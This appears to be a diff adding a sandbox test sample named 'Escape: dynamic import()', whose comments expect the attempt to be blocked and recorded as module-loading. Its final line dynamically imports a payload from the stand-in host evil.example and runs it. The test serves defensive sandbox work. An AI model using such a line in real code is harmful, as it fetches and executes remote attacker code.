@@ -1,0 +1,9 @@
+// sample: Escape: dynamic import()
+// run-options: --force
+// expect-outcome: error
+// expect-blocked: module-loading@9
+// expect-verdict: block
+//
+// There is no module loader: the promise rejects and the attempt is recorded. Loading a
+// remote payload is module-loading; importing "fs" would be recorded as filesystem.
+import("https://evil.example/stage2.js").then((m) => m.default());
